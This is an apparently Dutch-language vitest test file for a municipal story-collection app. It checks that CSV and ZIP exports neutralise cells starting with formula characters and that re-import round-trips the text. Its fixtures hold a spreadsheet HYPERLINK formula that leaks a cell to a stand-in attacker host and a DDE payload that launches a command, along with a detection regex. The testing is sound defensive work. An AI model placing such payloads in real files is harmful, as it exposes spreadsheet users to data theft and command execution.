// Issue 14 item 4: a story whose title, text or tip starts like a spreadsheet formula is exported
// neutralised (a leading ') in the story CSV of the API, the CLI's service and the municipality's
// ZIP, and the indicator CSVs; importing that export gives back the very text that was stored.
import { and, eq } from 'drizzle-orm';
import { unzipSync, strFromU8 } from 'fflate';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DatabaseHandle } from '../../src/db/connection.ts';
import { parseCsv } from '../../src/domain/csv/reader.ts';
import { csvRow } from '../../src/domain/csv/writer.ts';
import * as schema from '../../src/db/schema/index.ts';
import { createApp } from '../../src/http/app.ts';
import { contextForTenantSlug, textSource, type ServiceContext } from '../../src/services/context.ts';
import { exportStories } from '../../src/services/export-stories.ts';
import { exportDefinitionsCsv, exportObservationsCsv, importIndicatorsCsv } from '../../src/services/indicators.ts';
import { importStories } from '../../src/services/import-stories.ts';
import { exportTenantArchive } from '../../src/services/tenant-data.ts';
import { testDatabaseTargets } from '../support/databases.ts';
import { collect } from '../support/tenant.ts';
import { seedTwoTenants, type TwoTenants } from '../support/two-tenants.ts';

const TITLE = '=HYPERLINK("https://kwaad.example/?"&A1,"klik")';
const TEXT = "+cmd|' /C calc'!A0";
const TIP = '@SUM(A1:A9)';
/** A quote of its own, not before a formula: read and written as it is. */
const HOEKJE = "'t Hoekje hielp";
/** A text that itself starts with a quote before a formula, as a teller could type it. */
const QUOTED = "'=1+1 staat zo in de brief";
const FORMULA_START = /^[=+\-@\t\r]/;

describe.each(testDatabaseTargets())('formula injection in exports on $name', ({ create }) => {
  let handle: DatabaseHandle;
  let tenants: TwoTenants;
  let app: ReturnType<typeof createApp>;
  let ctx: ServiceContext;

  const stored = async (ref: string) =>
    (
      await handle.db
        .select()
        .from(schema.stories)
        .where(and(eq(schema.stories.tenantId, ctx.tenantId), eq(schema.stories.ref, ref)))
    )[0]!;
  const tipOf = async (storyId: string) =>
    (
      await handle.db
        .select()
        .from(schema.storyAnswers)
        .where(and(eq(schema.storyAnswers.storyId, storyId), eq(schema.storyAnswers.questionKey, 'tip')))
    )[0]?.text;

  beforeAll(async () => {
    handle = await create();
    tenants = await seedTwoTenants(handle, { stories: 5 });
    app = createApp({ db: handle.db, logger: pino({ level: 'silent' }), secureCookies: false, publicUrl: 'http://localhost' });
    ctx = await contextForTenantSlug(handle.db, tenants.a.slug);
    // Two stories of the demo questionnaire: one with formulas in title, text and tip; one with a quote of its own.
    const [header, first] = parseCsv(await collect(await exportStories(ctx, 'zo-thuis')));
    const at = (name: string) => header!.fields.indexOf(name);
    const row = (id: string, title: string, text: string, tip: string) => {
      const fields = [...first!.fields];
      fields[at('story_id')] = id;
      fields[at('title')] = title;
      fields[at('text')] = text;
      fields[at('tip')] = tip;
      return csvRow(fields);
    };
    const csv = csvRow(header!.fields) + row('formule-1', TITLE, TEXT, TIP) + row('formule-2', HOEKJE, `-${TEXT}`, `\t${TIP}`) + row('formule-3', 'x', 'y', '');
    const analist = tenants.callers.a.analist;
    const response = await app.request('/api/v1/questionnaires/zo-thuis/stories', {
      method: 'POST',
      headers: { cookie: analist.cookie, 'x-csrf-token': analist.csrfToken, 'content-type': 'text/csv' },
      body: csv,
    });
    expect(response.status, await response.clone().text()).toBe(200);
    // Stored the way the teller's page stores a title: not through a CSV file.
    await handle.db
      .update(schema.stories)
      .set({ title: QUOTED })
      .where(and(eq(schema.stories.tenantId, ctx.tenantId), eq(schema.stories.ref, 'formule-3')));
  }, 120_000);
  afterAll(async () => handle?.close());

  it('stores the text as sent (an import file written by hand is read as it is)', async () => {
    const one = await stored('formule-1');
    expect([one.title, one.text, await tipOf(one.id)]).toEqual([TITLE, TEXT, TIP]);
    const two = await stored('formule-2');
    expect([two.title, two.text, await tipOf(two.id)]).toEqual([HOEKJE, `-${TEXT}`, `\t${TIP}`]);
  });

  it('exports the story CSV over the API with every free-text cell neutralised, and numbers untouched', async () => {
    const response = await app.request('/api/v1/questionnaires/zo-thuis/stories', { headers: { cookie: tenants.callers.a.analist.cookie } });
    const [header, ...rows] = parseCsv(await response.text());
    const cells = (ref: string) => Object.fromEntries(header!.fields.map((name, i) => [name, rows.find((r) => r.fields[0] === ref)!.fields[i]!]));
    const one = cells('formule-1');
    expect([one.title, one.text, one.tip]).toEqual([`'${TITLE}`, `'${TEXT}`, `'${TIP}`]);
    const two = cells('formule-2');
    expect([two.title, two.text, two.tip]).toEqual([HOEKJE, `'-${TEXT}`, `'\t${TIP}`]);
    expect(cells('formule-3').title).toBe(`'${QUOTED}`);
    for (const row of rows) for (const cell of row.fields.slice(0, 7)) expect(cell).not.toMatch(FORMULA_START);
  });

  it('round-trips: importing the export into the same questionnaire stores the same texts and exports the same bytes', async () => {
    const first = await collect(await exportStories(ctx, 'zo-thuis'));
    const result = await importStories(ctx, { source: textSource('export.csv', first), questionnaireKey: 'zo-thuis' });
    expect(result.replaced).toBe(result.stories);
    const one = await stored('formule-1');
    expect([one.title, one.text, await tipOf(one.id)]).toEqual([TITLE, TEXT, TIP]);
    expect((await stored('formule-2')).title).toBe(HOEKJE);
    expect((await stored('formule-3')).title).toBe(QUOTED);
    expect(await collect(await exportStories(ctx, 'zo-thuis'))).toBe(first);
  });

  it('neutralises the indicator CSVs too, leaving negative numbers alone', async () => {
    await importIndicatorsCsv(ctx, textSource('defs.csv', 'key,name,unit,direction,source,definition,domain\nsaldo,=1+2,euro,up,@bron,-min,jeugd\n'));
    await importIndicatorsCsv(ctx, textSource('obs.csv', 'indicator,area,period,value,provider,numerator,denominator\nsaldo,GM9999,2025,-3,+aanbieder,-1,2\n'));
    const definitions = parseCsv(await exportDefinitionsCsv(ctx)).find((r) => r.fields[0] === 'saldo')!.fields;
    expect(definitions).toEqual(['saldo', "'=1+2", 'euro', 'up', "'@bron", "'-min", 'jeugd']);
    const observation = parseCsv(await exportObservationsCsv(ctx)).find((r) => r.fields[0] === 'saldo')!.fields;
    expect(observation).toEqual(['saldo', 'GM9999', '2025', '-3', "'+aanbieder", '-1', '2']);
  });

  it("neutralises the municipality's ZIP export", async () => {
    const { archive } = await exportTenantArchive(ctx);
    const files = unzipSync(new Uint8Array(archive));
    const stories = parseCsv(strFromU8(files['verhalen/zo-thuis.csv']!));
    const one = stories.find((r) => r.fields[0] === 'formule-1')!.fields;
    expect(one).toContain(`'${TITLE}`);
    expect(one).toContain(`'${TIP}`);
    for (const name of Object.keys(files).filter((n) => n.endsWith('.csv'))) {
      for (const record of parseCsv(strFromU8(files[name]!))) {
        for (const cell of record.fields) if (!/^-?\d/.test(cell)) expect(cell, name).not.toMatch(FORMULA_START);
      }
    }
  });
});
